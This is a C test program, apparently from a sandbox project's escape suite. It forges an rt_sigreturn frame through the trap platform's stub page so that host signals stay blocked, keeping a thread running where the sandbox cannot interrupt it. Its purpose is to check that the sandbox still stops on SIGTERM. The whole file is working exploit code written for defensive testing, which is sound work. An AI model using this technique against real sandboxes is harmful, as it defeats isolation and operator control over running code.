/* An attack on how the trap platform interrupts a thread that runs
 * application code: the kernel sends the stub thread a host SIGURG, whose
 * handler traps into the kernel. The program jumps to the stub's
 * rt_sigreturn instruction (src/platform/trap/trap_stub.S,
 * moat_trap_restorer) with a forged frame whose signal mask blocks SIGURG
 * on the host, and then computes forever without a system call. The
 * kernel can then no longer interrupt the thread: the runner checks that
 * the sandbox still stops within 5 s of a SIGTERM.
 *
 *   stub_sigmask spin   the main thread forges the frame and spins
 *   stub_sigmask exit   a second thread forges the frame and spins, and
 *                       the main thread calls exit(0) a second later
 *
 * On the ptrace platform the same jump stops in PTRACE_SYSEMU and moat's
 * kernel serves the rt_sigreturn, so the mask never reaches the host.
 * Natively there is no stub page: the program only spins. */
#include "escape.h"

#include <pthread.h>
#include <setjmp.h>
#include <stdint.h>
#include <ucontext.h>

#define STUB ((const char*)0x7fffffe00000)
#define PAGE 4096
/* x86-64 user segment selectors (arch/x86/include/asm/segment.h). */
#define USER_CS 0x33
#define USER_DS 0x2b

static sigjmp_buf fault_jump;

static void on_fault(int sig) { siglongjmp(fault_jump, 1); }

/* The address of `mov $15, %eax; syscall` (rt_sigreturn) in the stub's
 * page, or 0 when the page is missing or has no such code. */
static uintptr_t find_restorer(void) {
  static const char code[] = "\xb8\x0f\x00\x00\x00\x0f\x05";
  signal(SIGSEGV, on_fault);
  signal(SIGBUS, on_fault);
  uintptr_t found = 0;
  if (sigsetjmp(fault_jump, 1) == 0) {
    for (size_t i = 0; i + sizeof(code) - 1 <= PAGE; i++) {
      if (memcmp(STUB + i, code, sizeof(code) - 1) == 0) {
        found = (uintptr_t)STUB + i;
        break;
      }
    }
  }
  signal(SIGSEGV, SIG_DFL);
  signal(SIGBUS, SIG_DFL);
  return found;
}

static void spin_forever(void) {
  for (;;) asm volatile("pause" ::: "memory");
}

/* The rt_sigreturn frame: the return address that the restorer's `ret`
 * popped, the kernel's struct ucontext (glibc's ucontext_t matches it up to
 * and including the first word of uc_sigmask) and room for the siginfo. */
struct forged_frame {
  uint64_t return_address;
  ucontext_t uc;
  char info[128];
} __attribute__((aligned(64)));

static struct forged_frame frame;
static char spin_stack[64 * 1024] __attribute__((aligned(16)));

/* Jumps to the restorer with a frame that resumes in spin_forever on
 * spin_stack with every signal blocked but SIGKILL and SIGSTOP. */
static void forge_and_spin(uintptr_t restorer) {
  memset(&frame, 0, sizeof frame);
  greg_t* regs = frame.uc.uc_mcontext.gregs;
  regs[REG_RIP] = (greg_t)(uintptr_t)spin_forever;
  regs[REG_RSP] = (greg_t)(uintptr_t)(spin_stack + sizeof spin_stack - 8);
  regs[REG_EFL] = 0x202;
  regs[REG_CSGSFS] = USER_CS | ((greg_t)USER_DS << 48);
  frame.uc.uc_stack.ss_flags = SS_DISABLE;
  sigfillset(&frame.uc.uc_sigmask);
  asm volatile(
      "mov %0, %%rsp\n"
      "jmp *%1\n"
      :
      : "r"(&frame.uc), "r"(restorer)
      : "memory");
  __builtin_unreachable();
}

static void* spinner(void* arg) {
  uintptr_t restorer = (uintptr_t)arg;
  if (restorer != 0) forge_and_spin(restorer);
  spin_forever();
  return NULL;
}

int main(int argc, char** argv) {
  const char* op = argc > 1 ? argv[1] : "";
  uintptr_t restorer = find_restorer();
  if (restorer != 0)
    note("rt_sigreturn in the stub page at %#lx", (unsigned long)restorer);
  else
    note("no rt_sigreturn in a stub page: only spinning");
  if (strcmp(op, "spin") == 0) {
    spinner((void*)restorer);
  } else if (strcmp(op, "exit") == 0) {
    pthread_t thread;
    if (pthread_create(&thread, NULL, spinner, (void*)restorer) != 0) {
      broken("pthread_create failed");
      return escape_finish();
    }
    sleep(1);
    note("exiting while the other thread spins");
    exit(0);
  } else {
    broken("usage: stub_sigmask spin|exit");
  }
  return escape_finish();
}
